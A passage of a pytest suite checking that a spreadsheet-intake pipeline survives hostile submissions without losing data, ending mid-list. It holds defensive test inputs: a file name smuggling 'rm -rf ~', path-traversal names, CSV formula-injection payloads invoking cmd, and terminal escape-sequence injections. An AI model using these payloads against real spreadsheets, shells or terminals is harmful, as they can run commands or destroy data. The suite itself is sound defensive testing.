"""Untrusted input never costs data: one test per way a file, a name or a cell broke that promise.

Each file is built in code, the way another program or an attacker writes it. The promise: bad
input gets a clear finding at its cell (or one plain line when the command cannot run), every
file gets its verdict, nothing that was there before is lost, and nothing the pipeline writes
replays what a submitter typed as something that executes.
"""

from __future__ import annotations

import bisect
import csv
import hashlib
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import PatternFill
from openpyxl.worksheet.hyperlink import Hyperlink
from rich.console import Console

from pipeline import api, codelists, safe, serials
from pipeline.cli import main
from pipeline.intake.annotate import MAX_LISTED, annotate_many, write_annotated
from pipeline.intake.guard import Limits
from pipeline.intake.read import read_many
from pipeline.intake.reports import print_summary, report_folders
from pipeline.intake.validate import Submission
from tests import hostile, odd_files
from tests.builders import a_finding, set_cell, valid_sheets, write_workbook

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture
def inputs(tmp_path: Path) -> Path:
    (tmp_path / "inputs" / "submissions").mkdir(parents=True)
    return tmp_path / "inputs"


def gtb_run(inputs: Path) -> int:
    out = inputs.parent / "out"
    return main(["run", "--inputs", str(inputs), "--db", str(out / "gtb.duckdb"), "--outputs", str(out), "--jobs", "1"])


def query(db: Path, sql: str) -> list[tuple]:
    with duckdb.connect(str(db), read_only=True) as con:
        return con.execute(sql).fetchall()


def issues(folder: Path) -> list[dict[str, str]]:
    with (folder / "issues.csv").open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def without_root_powers() -> list[str]:
    """A command prefix under which file permissions bind, even for root (tests may run as root)."""
    if os.geteuid() != 0:
        return []
    return ["setpriv", "--bounding-set=-dac_override,-dac_read_search", "--inh-caps=-all"]


def gtb_process(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    command = [*without_root_powers(), sys.executable, "-m", "pipeline.cli", *args]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run(command, cwd=cwd, capture_output=True, text=True, env=env, timeout=300)


# --- 1. a file name never deletes anything ----------------------------------------------------


@pytest.mark.parametrize("name", ["...xlsx", "..xlsx", ".xlsx", "..\\..\\x.xlsx", "$(rm -rf ~).xlsx", "\u202egnp.xlsx"])
def test_odd_file_names_remove_nothing(inputs, name):
    good = write_workbook(inputs / "submissions" / "UNEP_2024.xlsx", valid_sheets("UNEP"))
    assert gtb_run(inputs) == 0
    out = inputs.parent / "out"
    before = {p: sha(p) for p in out.rglob("*") if p.is_file()}
    odd = inputs / "submissions" / name
    odd.write_bytes(good.read_bytes()[:-10])  # damaged: a rejection with a report
    assert gtb_run(inputs) == 1
    after = {p for p in out.rglob("*") if p.is_file()}
    assert set(before) <= after, "a report or the database was removed"
    assert query(out / "gtb.duckdb", "SELECT count(*) FROM facilities_activity") == [(3,)]
    [rejected] = query(out / "gtb.duckdb", "SELECT report_path FROM submissions WHERE status = 'rejected'")
    folder = Path(rejected[0])
    assert folder.parent == out / "validation" and folder.name.strip("._-") and (folder / "issues.csv").exists()


def test_validate_with_a_dot_name_keeps_the_outputs_folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    sentinel = tmp_path / "outputs" / "gtb.duckdb"
    sentinel.parent.mkdir()
    sentinel.write_bytes(b"the analyst's database")
    (tmp_path / "...xlsx").write_bytes(b"PK\x03\x04 not a workbook")
    assert main(["validate", "./...xlsx"]) == 1
    assert sentinel.read_bytes() == b"the analyst's database"
    [folder] = (tmp_path / "outputs" / "validation").iterdir()
    assert folder.name.startswith("file_") and issues(folder)[0]["code"] == "unreadable-file"


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(min_size=0, max_size=40), min_size=1, max_size=6), st.booleans())
def test_report_folders_stay_inside_and_never_collide(stems, known):
    report_dir = Path("/tmp/gtb-reports-property")
    subs = [
        Submission(
            path=f"/in/{i}/{stem}.xlsx",
            file_name=f"{stem}.xlsx",
            entity_code="UNEP" if known else None,
            reporting_year=2024 if known else None,
        )
        for i, stem in enumerate(stems)
    ]
    folders = report_folders(subs, report_dir)
    names = [folders[i].name for i in range(len(subs))]
    assert len({n.lower() for n in names}) == len(names)
    for folder in folders.values():
        assert (
            folder.parent == report_dir
            and folder.name.strip("._-")
            and set(folder.name) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-")
        )


# --- 2 and 7. non-finite and absurd numbers are findings at their cell --------------------------


@pytest.mark.parametrize(
    ("stored", "code"),
    [
        ("inf", "type-error"),
        ("-inf", "type-error"),
        ("NaN", "type-error"),
        ("1e308", "out-of-range"),
        ("1E+300", "out-of-range"),
    ],
)
def test_non_finite_and_absurd_quantities_are_findings(tmp_path, stored, code):
    source = write_workbook(tmp_path / "src.xlsx", valid_sheets("UNEP"))
    path = tmp_path / "odd.xlsx"
    path.write_bytes(odd_files.raw_value(source.read_bytes(), "Facilities", "D3", stored))
    [sub] = api.check_files([path], jobs=1)
    assert [(f.sheet, f.cell, f.code) for f in sub.findings] == [("Facilities", "D3", code)]


@pytest.mark.parametrize(
    ("sheet", "cell", "value"),
    [
        ("Entity", "B4", 3_000_000_000),
        ("Entity", "B4", 2**63),
        ("Entity", "B4", 10**30),
        ("AirTravel", "E2", 2**40),
        ("Offsets", "D2", 2**63),
    ],
)
def test_integers_beyond_the_warehouse_types_are_out_of_range(tmp_path, sheet, cell, value):
    path = write_workbook(tmp_path / "big.xlsx", set_cell(valid_sheets("UNEP"), sheet, cell, value))
    [sub] = api.check_files([path], jobs=1)
    assert [(f.sheet, f.cell, f.code) for f in sub.findings] == [(sheet, cell, "out-of-range")]


def test_every_numeric_column_has_an_upper_bound_within_its_warehouse_type():
    from schemas import contract

    for spec in contract.sheets():
        for col in spec.columns:
            if not col.is_numeric:
                continue
            assert col.le, f"{spec.name}.{col.name} has no upper bound"
            assert col.bound_note, f"{spec.name}.{col.name}: give the reason of its bounds"
            if col.dtype == "integer" and col.le.isdigit():
                assert int(col.le) < 2**31, f"{spec.name}.{col.name} may exceed the warehouse INTEGER"


def test_a_run_with_an_infinite_quantity_loads_the_others_and_every_figure_is_finite(inputs):
    write_workbook(inputs / "submissions" / "UNEP_2024.xlsx", valid_sheets("UNEP"))
    source = write_workbook(inputs.parent / "src.xlsx", valid_sheets("WFP"))
    (inputs / "submissions" / "WFP_2024.xlsx").write_bytes(
        odd_files.raw_value(source.read_bytes(), "Facilities", "D2", "inf")
    )
    assert gtb_run(inputs) == 1
    db = inputs.parent / "out" / "gtb.duckdb"
    with duckdb.connect(str(db), read_only=True) as con:
        for view in ("entity_indicators", "system_indicators", "submission_totals", "entity_year", "emissions"):
            columns = [r[0] for r in con.execute(f"DESCRIBE {view}").fetchall() if r[1] in ("DOUBLE", "FLOAT")]
            for column in columns:
                bad = con.execute(f"SELECT count(*) FROM {view} WHERE NOT isfinite({column})").fetchall()[0][0]
                assert bad == 0, f"{view}.{column}"
    assert main(["indicators", "--year", "2024", "--db", str(db), "--json"]) == 0


# --- 3. one credit block, however written, counts once ---------------------------------------

LOOKALIKES = {
    "-": ["\u2010", "\u2011", "\u2012", "\u2013", "\u2014", "\u2015", "\u2212", "\uff0d", " - ", "\u00a0-\u00a0"],
}


def look_alike(serial: str, choice: int) -> str:
    """The serial as a registry web page or a PDF hands it over."""
    dash = LOOKALIKES["-"][choice % len(LOOKALIKES["-"])]
    text = serial.replace("-", dash)
    if choice % 3 == 0:
        text = "".join(chr(ord(c) + 0xFEE0) if c.isalnum() and c.isascii() else c for c in text)  # full width
    if choice % 2:
        text = "\u00a0" + text.lower() + "\u200b"
    if choice % 5 == 1:  # typed in a Cyrillic or Greek keyboard layout: letters drawn alike
        latin = {v: k for k, v in codelists.LOOK_ALIKES.items()}
        text = "".join(latin.get(c, c) for c in text)
    if choice % 7 == 2:  # a NUL or a bidirectional mark carried over from a web page
        text = text[:1] + "\u200e\x00" + text[1:] + "\u202c"
    return text


@settings(max_examples=300, deadline=None)
@given(
    prefix=st.lists(
        st.text(alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", min_size=1, max_size=6), min_size=1, max_size=4
    ),
    start=st.integers(0, 10**8),
    length=st.integers(0, 10**6),
    choice=st.integers(0, 60),
)
def test_look_alike_spellings_are_one_serial(prefix, start, length, choice):
    digits = len(str(start + length))
    serial = "-".join([*prefix, str(start).zfill(digits), str(start + length).zfill(digits)])
    variant = look_alike(serial, choice)
    assert serials.normalise(variant) == serials.normalise(serial)
    assert serials.overlap(serials.parse(variant), serials.parse(serial))


def test_every_look_alike_letter_reads_as_its_latin_letter_and_others_are_foreign():
    for look_alike_letter, latin in codelists.LOOK_ALIKES.items():
        assert serials.normalise(f"{look_alike_letter}E-5-1-9") == f"{latin}e-5-1-9".casefold()
        assert serials.foreign_characters(f"{look_alike_letter}E-5-1-9") == []
    assert serials.foreign_characters("\u13ac-5-1-9\u0562") == ["\u13ac", "\u0562"]  # Cherokee E, Armenian b
    assert serials.foreign_characters("n\u00b0 12") == []  # a symbol, not a letter drawn like one


@settings(max_examples=300, deadline=None)
@given(a=st.integers(0, 1000), la=st.integers(0, 50), b=st.integers(0, 1000), lb=st.integers(0, 50))
def test_ranges_of_one_block_overlap_exactly_when_they_share_a_serial(a, la, b, lb):
    first = serials.parse(f"CER-UNEP-2024-{a:06d}-{a + la:06d}")
    second = serials.parse(f"CER-UNEP-2024-{b:06d}-{b + lb:06d}")
    shares = max(a, b) <= min(a + la, b + lb)
    assert serials.overlap(first, second) == shares
    other_block = serials.parse(f"CER-UNDP-2024-{b:06d}-{b + lb:06d}")
    assert not serials.overlap(first, other_block)


class ScannedClaims:
    """Claims kept as sorted lists scanned from the start: the plain definition the tree must agree with."""

    def __init__(self) -> None:
        self.exact: dict[str, int] = {}
        self.ranges: dict[str, list[tuple[int, int, int]]] = {}

    def add(self, serial: serials.Serial, owner: int) -> None:
        self.exact.setdefault(serial.text, owner)
        if serial.is_range:
            spans = [(serial.block, serial.start, serial.end)]
        else:
            spans = [(block, n, n) for block, n in serial.as_points()]
        for block, start, end in spans:
            bisect.insort(self.ranges.setdefault(block, []), (start, end, owner), key=lambda r: r[:2])

    def holders(self, serial: serials.Serial) -> list[int]:
        out = [self.exact[serial.text]] if serial.text in self.exact else []
        asked = [(serial.block, serial.start, serial.end)] if serial.is_range else []
        for block, start, end in asked + [(block, n, n) for block, n in serial.as_points()]:
            out += [o for first, last, o in self.ranges.get(block, []) if first <= end and last >= start]
        return out


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.sampled_from(["CER-UNEP-2024", "CER-UNDP-2024", "GS1-1-MX-GS10881-24-2024"]),
            st.integers(0, 60),
            st.integers(0, 25) | st.just(0) | st.none(),
            st.booleans(),
        ),
        min_size=1,
        max_size=60,
    )
)
def test_claims_answer_as_the_sorted_lists_scanned_from_the_start(steps):
    claims: serials.Claims[int] = serials.Claims()
    scanned = ScannedClaims()
    for owner, (block, start, length, ask_first) in enumerate(steps):
        text = f"{block}-{start:06d}" if length is None else f"{block}-{start:06d}-{start + length:06d}"
        serial = serials.parse(text)
        if ask_first:
            assert claims.holders(serial) == scanned.holders(serial), text
            assert claims.holds(serial) == bool(scanned.holders(serial))
        claims.add(serial, owner)
        scanned.add(serial, owner)
    for block, start, length, _ in steps:
        for probe in (start, start + (length or 0) // 2, start + 100):
            serial = serials.parse(f"{block}-{probe:06d}")
            assert claims.holders(serial) == scanned.holders(serial)


@settings(max_examples=400, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.sampled_from(["CER-UNEP-2024", "CER-UNDP-2024", "GS1-1-MX-GS10881-24-2024", "7837"]),
            st.integers(0, 400),
            st.integers(0, 25) | st.none(),
            st.integers(0, 2),
        ),
        max_size=40,
    )
)
def test_serials_are_disjoint_exactly_when_no_claim_holds_a_later_one(steps):
    """`serials.disjoint`, the sort-and-sweep the checks take first, says "no overlap" exactly
    when asking each serial of the claims before it (what the checks do otherwise) finds none."""
    items = []
    for block, start, length, spelling in steps:
        if block == "7837":  # Verra's form, whose range sits in the middle
            text = f"7837-{start}-{start + (length or 0)}-VCS-VCU-1"
        else:
            text = f"{block}-{start:06d}" if length is None else f"{block}-{start:06d}-{start + length:06d}"
        items.append(serials.parse(look_alike(text, spelling) if spelling else text))
    claims: serials.Claims[int] = serials.Claims()
    held = False
    for owner, serial in enumerate(items):
        held = held or claims.holds(serial)
        claims.add(serial, owner)
    assert serials.disjoint(items) == (not held)
    assert serials.disjoint(reversed(items)) == (not held)


def test_claims_ordered_to_make_the_tree_a_chain_are_still_answered(monkeypatch):
    """Priorities that rise with every claim (what a submitter ordering the serials against a
    predictable seed could force) make each block's tree one long chain: deeper than Python's
    recursion limit, and still walked and answered as the list is."""
    rising = iter(range(10**9))
    monkeypatch.setattr(serials, "_PRIORITY", lambda: next(rising))
    claims: serials.Claims[int] = serials.Claims()
    scanned = ScannedClaims()
    for owner in range(sys.getrecursionlimit() + 500):
        serial = serials.parse(f"CER-UNEP-2024-{owner * 2:06d}-{owner * 2 + 1:06d}")
        claims.add(serial, owner)
        scanned.add(serial, owner)
    for probe in ("CER-UNEP-2024-000001-000009", "CER-UNEP-2024-002401", "CER-UNEP-2024-999999"):
        serial = serials.parse(probe)
        assert claims.holders(serial) == scanned.holders(serial)
    assert claims.holds(serials.parse("CER-UNEP-2024-000001-000009"))


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="CERUNEPvcs-\u2010\u2212 \u200b0123456789", max_size=30) | st.integers() | st.floats())
def test_a_serial_read_again_is_read_as_the_first_time(value):
    first = serials.parse(value)
    assert serials.parse(value) == first == serials._parse(value)  # the text is read once, the same way


@pytest.mark.parametrize(
    ("held", "claimed"),
    [
        (
            "7837-438577047-438577546-VCS-VCU-997-VER-IN-14-1748-01012018-31122018-0",
            "7837-438577500-438577600-VCS-VCU-997-VER-IN-14-1748-01012018-31122018-0",
        ),
        ("GS1-1-IN-GS2445-16-2018-19136-22500-22511", "GS1-1-IN-GS2445-16-2018-19136-22511-22600"),
        ("BR-5-123456-1-1-0-1234 - BR-5-123999-1-1-0-1234", "BR-5-123500-1-1-0-1234"),
        ("CER-UNEP-2024-000001-005000", "CER\u2010UNEP\u20132024\u2212000001-005000\u200b"),
    ],
)
def test_registry_forms_are_read_as_ranges(held, claimed):
    assert serials.overlap(serials.parse(held), serials.parse(claimed))
    assert serials.overlap(serials.parse(claimed), serials.parse(held))


def test_one_block_written_four_ways_in_one_workbook_counts_once(tmp_path):
    sheets = valid_sheets("UNEP")
    block = "CER-UNEP-2024-000001-005000"
    row = sheets["Offsets"][1]
    for i, spelling in enumerate([look_alike(block, 1), look_alike(block, 3), look_alike(block, 6)], start=3):
        sheets["Offsets"].append([row[0], row[1], spelling, row[3], row[4], row[5]])
        assert i
    path = write_workbook(tmp_path / "four.xlsx", sheets)
    [sub] = api.check_files([path], jobs=1)
    assert [(f.cell, f.code) for f in sub.findings] == [
        ("C3", "duplicate-serial"),
        ("C4", "duplicate-serial"),
        ("C5", "duplicate-serial"),
    ]


def test_overlapping_ranges_across_entities_and_runs_are_duplicate_serials(inputs):
    unep = valid_sheets("UNEP")
    unep["Offsets"][1][2] = "CER-XYZ-2024-000001-005000"
    write_workbook(inputs / "submissions" / "UNEP_2024.xlsx", unep)
    assert gtb_run(inputs) == 0
    wfp = valid_sheets("WFP")
    wfp["Offsets"][1][2] = "cer\u2013xyz\u20132024\u2212004001\u2010009000"  # 5,000 credits; overlaps 4001-5000
    write_workbook(inputs / "submissions" / "WFP_2024.xlsx", wfp)
    assert gtb_run(inputs) == 1
    db = inputs.parent / "out" / "gtb.duckdb"
    assert query(db, "SELECT entity_code, status FROM submissions ORDER BY 1") == [
        ("UNEP", "loaded"),
        ("WFP", "rejected"),
    ]
    [(message,)] = query(db, "SELECT message FROM findings WHERE code = 'duplicate-serial'")
    assert "overlaps CER-XYZ-2024-000001-005000" in message and "UNEP 2024" in message
    assert query(db, "SELECT sum(quantity_tco2e) FROM offsets") == [(5000.0,)]


# --- 4 and 5. one odd workbook never hides the others -----------------------------------------


def test_workbooks_openpyxl_cannot_open_keep_their_verdict_and_the_good_one_loads(inputs):
    folder = inputs / "submissions"
    entities = ["UNDP", "UNICEF", "UNHCR", "WHO", "FAO", "ILO", "UNESCO", "UNFPA", "UNOPS", "IAEA", "ICAO"]
    for mutation, entity in zip(odd_files.MUTATIONS, entities, strict=True):
        odd_files.mutated(folder, f"{entity}_{mutation}.xlsx", mutation, entity)
    write_workbook(folder / "UNEP_2024.xlsx", valid_sheets("UNEP"))
    assert gtb_run(inputs) == 1
    db = inputs.parent / "out" / "gtb.duckdb"
    rows = query(db, "SELECT file_name, status, report_path FROM submissions ORDER BY file_name")
    assert len(rows) == len(odd_files.MUTATIONS) + 1
    assert [r[:2] for r in rows if r[1] == "loaded"] == [("UNEP_2024.xlsx", "loaded")]
    for name, status, report in rows:
        if status == "rejected":
            assert (Path(report) / "issues.csv").exists(), name
            annotated = load_workbook(Path(report) / "annotated.xlsx")
            assert annotated.sheetnames[0] == "Validation summary", name


@pytest.mark.parametrize("mutation", ["huge-merge", "huge-hyperlink"])
def test_a_range_over_the_whole_sheet_gets_a_findings_only_copy(tmp_path, mutation):
    path = odd_files.mutated(tmp_path, "odd.xlsx", mutation)
    [sub] = api.check_files([path], jobs=1)
    out = tmp_path / "annotated.xlsx"
    outcome = annotate_many([(path, sub.findings, out)])
    assert outcome[out].startswith("findings-only")
    wb = load_workbook(out)
    assert wb.sheetnames == ["Validation summary"]
    assert "could not be made" in wb.active["A5"].value and wb.active["B8"].value == "E2"


@pytest.mark.parametrize(
    ("lang", "words", "english"),
    [
        ("fr", ("n'a pas pu être faite (la feuille '", "a une plage fusionnée ou un lien qui couvre"), "merged range"),
        ("es", ("No se pudo hacer una copia anotada", "tiene un rango combinado o un vínculo"), "merged range"),
    ],
)
def test_why_no_copy_was_made_is_said_in_the_summary_language(tmp_path, lang, words, english):
    """The reason inside the French or Spanish note was English, and its count grouped the English way."""
    path = odd_files.mutated(tmp_path, "odd.xlsx", "huge-merge")
    [sub] = api.check_files([path], jobs=1)
    out = tmp_path / "annotated.xlsx"
    assert annotate_many([(path, sub.findings, out, lang)])[out].startswith("findings-only")
    note = next(c.value for row in load_workbook(out).active.iter_rows() for c in row if "(" in str(c.value or ""))
    assert all(w in note for w in words) and english not in note, note
    count = note.split(" ")[-2] if lang == "en" else note.rsplit("(", 1)[-1]
    assert "," not in count.split(")")[0], note


def test_a_copy_that_runs_out_of_memory_costs_only_its_copy(tmp_path, monkeypatch):
    """The worker's memory cap stops openpyxl building a huge range the guard did not flag."""
    from pipeline.intake import annotate

    monkeypatch.setattr(annotate, "MAX_RANGE_CELLS", 10**12)  # let the range through to openpyxl
    path = odd_files.mutated(tmp_path, "odd.xlsx", "huge-merge")
    [sub] = api.check_files([path], jobs=1)
    out = tmp_path / "annotated.xlsx"
    outcome = annotate_many(
        [(path, sub.findings, out)], limits=Limits(reader_memory_bytes=512 * 2**20, reader_timeout_s=30)
    )
    assert outcome[out].startswith("findings-only")
    assert load_workbook(out).sheetnames == ["Validation summary"]


def test_at_most_a_bounded_number_of_findings_are_marked(tmp_path):
    """1,500 rows with three mistakes each: each rule on its column lists 1,000 findings and counts
    the other 500 (`SAME_FINDINGS_LISTED`); of those 3,003 the copy marks and lists the first 1,000."""
    from pipeline.intake.validate import SAME_FINDINGS_LISTED

    sheets = valid_sheets("UNEP")
    for i in range(1500):
        sheets["Refrigerants"].append(["Site", "XKX", "r999", f"{i} kg", "measured"])
    path = write_workbook(tmp_path / "many.xlsx", sheets)
    [sub] = api.check_files([path], jobs=1)
    assert len(sub.findings) == 3 * SAME_FINDINGS_LISTED + 3
    assert sorted(f.message.split(" more")[0] for f in sub.findings if f.code == "more-findings") == ["500"] * 3
    out = write_annotated(path, sub.findings, tmp_path / "annotated.xlsx")
    wb = load_workbook(out)
    summary = wb["Validation summary"]
    total = f"{len(sub.findings):,}"
    assert summary.max_row == 7 + MAX_LISTED and f"first {MAX_LISTED:,} of {total}" in summary["A5"].value
    marked = [c for column in "BCD" for c in wb["Refrigerants"][column] if c.comment is not None]
    assert len(marked) == MAX_LISTED - 3  # the three counts are listed first, on the sheet, not on a cell


# --- 6. an unreadable file is a finding in gtb run too ----------------------------------------


def test_unreadable_file_is_a_finding_and_the_others_load(inputs):
    write_workbook(inputs / "submissions" / "UNEP_2024.xlsx", valid_sheets("UNEP"))
    locked = write_workbook(inputs / "submissions" / "WFP_2024.xlsx", valid_sheets("WFP"))
    locked.chmod(0)
    out = inputs.parent / "out"
    done = gtb_process(
        "run", "--inputs", str(inputs), "--db", str(out / "gtb.duckdb"), "--outputs", str(out), cwd=inputs.parent
    )
    locked.chmod(0o644)
    assert done.returncode == 1, done.stderr
    assert "internal error" not in done.stderr
    rows = query(
        out / "gtb.duckdb",
        "SELECT s.file_name, s.status, f.code FROM submissions s LEFT JOIN findings f USING (submission_id) ORDER BY 1",
    )
    assert rows == [("UNEP_2024.xlsx", "loaded", None), ("WFP_2024.xlsx", "rejected", "unreadable-file")]


def test_a_fault_of_the_pipeline_on_one_workbook_is_its_verdict_not_the_batchs_end(tmp_path, monkeypatch):
    from pipeline.intake import ahead

    good = write_workbook(tmp_path / "UNEP_2024.xlsx", valid_sheets("UNEP"))
    odd = write_workbook(tmp_path / "WFP_2024.xlsx", valid_sheets("WFP"))
    # the workers normalise: the fault is met there, in a work function they can import
    monkeypatch.setattr(ahead, "read_one", hostile.normalise_failing_on_wfp)
    first, second = api.check_files([good, odd], jobs=1)
    assert first.errors == 0 and first.readable
    assert [f.code for f in second.findings] == ["unreadable-file"] and not second.readable
    assert "fault of the pipeline" in second.findings[0].message and "TypeError" in second.findings[0].message


def test_a_workbook_too_large_to_normalise_in_a_worker_is_normalised_by_the_caller(tmp_path, monkeypatch):
    from pipeline.intake import ahead

    good = write_workbook(tmp_path / "UNEP_2024.xlsx", valid_sheets("UNEP"))
    large = write_workbook(tmp_path / "WFP_2024.xlsx", valid_sheets("WFP"))
    expected = api.check_files([good, large], jobs=1)
    monkeypatch.setattr(ahead, "read_one", hostile.normalise_out_of_memory_on_wfp)
    found = api.check_files([good, large], jobs=1)
    assert [s.is_valid for s in found] == [True, True]
    assert [(s.findings, s.entity, s.lang) for s in found] == [(s.findings, s.entity, s.lang) for s in expected]


# --- 8. nothing written replays what a submitter typed ----------------------------------------

TRIGGERS = ["=cmd|' /c calc'!A1", "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


def test_issues_csv_escapes_formula_triggers(tmp_path):
    found = [
        a_finding("type-error", "m", file=t, sheet="Facilities", cell="D2", row=2, column=t, value=t) for t in TRIGGERS
    ]
    found.append(
        a_finding("out-of-range", "m", file="f", sheet="Facilities", cell="D3", row=3, column="quantity", value=-5)
    )
    from pipeline.intake.findings import write_issues_csv

    with write_issues_csv(found, tmp_path / "issues.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    for row in rows[1:]:
        for field in (row[0], row[4], row[5]):
            assert not field.startswith(safe.FORMULA_TRIGGERS) or field in ("-5", "f"), row
    assert any(r[5] == "'=cmd|' /c calc'!A1" for r in rows) and any(r[5] == "-5" for r in rows)


def test_console_shows_escape_sequences_as_text(tmp_path):
    source = write_workbook(tmp_path / "src.xlsx", set_cell(valid_sheets("UNEP"), "Facilities", "D2", "PLACEHOLDER"))
    escaped = b"_x001B_[2J_x001B_[Hall 60 loaded_x000D_"  # how OOXML stores control characters in a text
    path = tmp_path / "evil\x1b]0;pwned\x07.xlsx"
    path.write_bytes(
        odd_files.edit(
            source.read_bytes(), "xl/worksheets/sheet2.xml", lambda xml: xml.replace(b"PLACEHOLDER", escaped)
        )
    )
    subs = api.check_files([path], jobs=1)
    buffer = io.StringIO()
    print_summary(subs, console=Console(file=buffer, force_terminal=True, width=300, highlight=False))
    text = buffer.getvalue()
    visible = text.replace("\x1b[1m", "").replace("\x1b[0m", "")
    for code in ("\x1b[2J", "\x1b[H", "\x1b]0;", "\x07", "\r"):
        assert code not in visible, repr(code)
    assert "\\x1b[2J" in text and "\\x07" in text


def test_console_shows_characters_that_show_nothing(tmp_path):
    """A tab named 'Fac\u200bilities' was printed as 'Facilities' in the finding's location, which
    hid why it is not the Facilities sheet; the message itself quoted it escaped."""
    sheets = valid_sheets("UNEP")
    sheets["Fac\u200bilities"] = sheets["Facilities"]
    sheets["Notes\ufeff\u00ad"] = [["x"]]
    subs = api.check_files([write_workbook(tmp_path / "UNEP_2024.xlsx", sheets)], jobs=1)
    buffer = io.StringIO()
    print_summary(subs, console=Console(file=buffer, force_terminal=True, width=300, highlight=False))
    text = buffer.getvalue()
    assert not any(ch in text for ch in "\u200b\ufeff\u00ad"), text
    assert "Fac\\u200bilities duplicate-sheet" in text and "Notes\\ufeff\\xad unknown-sheet" in text
    assert safe.console_safe("17\u202f172 kWh\u00a0") == "17\u202f172 kWh\u00a0"  # spaces of French numbers stay


@given(st.characters(codec="utf-8"))
def test_a_character_the_code_lists_drop_as_unseen_is_escaped_on_the_console(ch):
    """One definition of the characters that show nothing: what the readers drop from a code or a
    tab name (`codelists.UNSEEN`) is exactly what the console prints as an escape, besides the
    controls (`safe.UNSEEN_RANGES`), so that a finding never shows a tab name as its look-alike."""
    unseen = re.fullmatch(f"[{codelists.UNSEEN}]", ch) is not None
    assert (safe.console_safe(ch) != ch) is unseen, repr(ch)


@pytest.mark.parametrize("typed", ["/diesel", "xyzfuel", "red", "[bold]x", "b]"])
def test_a_value_that_reads_as_console_markup_is_printed_as_typed(tmp_path, typed):
    """The value in brackets was read by the console as a markup tag: '/diesel' stopped
    `gtb validate` with an internal error, 'xyzfuel' vanished, 'red' coloured the line."""
    path = write_workbook(tmp_path / "UNEP_2024.xlsx", set_cell(valid_sheets("UNEP"), "Facilities", "C3", typed))
    subs = api.check_files([path], jobs=1)
    buffer = io.StringIO()
    print_summary(subs, console=Console(file=buffer, width=300, highlight=False))
    assert f"Facilities!C3 [{typed}] not-in-codelist" in buffer.getvalue(), buffer.getvalue()


def test_a_long_value_is_quoted_by_its_start_and_length(tmp_path):
    """A 32,767-character code printed about 33 KB on the console (the value, then the message
    quoting it whole); issues.csv keeps the whole value in its value column."""
    from pipeline.intake.findings import write_issues_csv

    long_code = "X" * 32767
    path = write_workbook(tmp_path / "UNEP_2024.xlsx", set_cell(valid_sheets("UNEP"), "Facilities", "B2", long_code))
    [sub] = api.check_files([path], jobs=1)
    [found] = [f for f in sub.findings if f.cell == "B2"]
    assert found.value == long_code
    assert "'" + "X" * 60 + "…' (32,767 characters)" in found.message and len(found.message) < 300
    buffer = io.StringIO()
    print_summary([sub], console=Console(file=buffer, width=300, highlight=False))
    assert len(buffer.getvalue()) < 1000, len(buffer.getvalue())
    rows = list(csv.reader(write_issues_csv(sub.findings, tmp_path / "issues.csv").open(newline="", encoding="utf-8")))
    assert any(row[5] == long_code for row in rows)


# The characters a terminal acts on: an issues.csv printed with `cat` must not replay them.
TERMINAL = ["\x1b", "\x07", "\x08", "\r", "\x00", "\x9b", "\u202e", "\u2066", "\u200f"]


def test_issues_csv_printed_in_a_terminal_replays_nothing(tmp_path):
    source = write_workbook(tmp_path / "src.xlsx", set_cell(valid_sheets("UNEP"), "Facilities", "C2", "PLACEHOLDER"))
    typed = b"_x001B_[2J_x001B_[Hall loaded_x000D_ \xe2\x80\xae"  # ESC, ESC, CR as OOXML stores them, then U+202E
    path = tmp_path / "evil\x1b]0;pwned\x07 \u202egnp.xlsx"
    path.write_bytes(
        odd_files.edit(source.read_bytes(), "xl/worksheets/sheet2.xml", lambda xml: xml.replace(b"PLACEHOLDER", typed))
    )
    out = tmp_path / "reports"
    assert main(["validate", str(path), "--report-dir", str(out)]) == 1
    [written] = list(out.rglob("issues.csv"))
    text = written.read_bytes().decode("utf-8")
    body = text.replace("\r\n", "\n")  # the CSV's own line ends
    for char in TERMINAL:
        assert char not in body, repr(char)
    with written.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert rows, "the typed text is a finding"
    assert {r["file"] for r in rows} == {"evil\\x1b]0;pwned\\x07 \\u202egnp.xlsx"}
    [cell] = [r for r in rows if r["cell"] == "C2"]
    assert cell["value"] == "\\x1b[2J\\x1b[Hall loaded\\x0d \\u202e"


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=16))
def test_csv_text_holds_no_terminal_control_and_no_formula(value):
    kept = safe.csv_safe(value)
    assert isinstance(kept, str)
    assert not safe._CSV_CONTROL.search(kept)
    assert not kept.startswith(safe.FORMULA_TRIGGERS) or safe._PLAIN_NUMBER.fullmatch(kept)
    assert safe.csv_safe(kept) == kept or kept.startswith("'"), "escaping twice changes nothing but a formula"
    if not safe._CONTROL.search(value.replace("\t", "").replace("\n", "")):
        assert kept.replace("'", "") == value.replace("'", ""), "text without control characters is only guarded"
    for field in re.split("[;,\t\n]", kept)[1:]:  # where Excel in any language may start a cell
        assert not field.lstrip(" ").startswith(safe.FORMULA_TRIGGERS), (value, kept)


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("Annex;=cmd|' /c calc'!A1;", "Annex;'=cmd|' /c calc'!A1;"),  # a French or Spanish Excel splits at ;
        ("HQ, @SUM(A1:A9)", "HQ, '@SUM(A1:A9)"),
        ("note\n+1+cmd|' /c calc'!A0", "note\n'+1+cmd|' /c calc'!A0"),
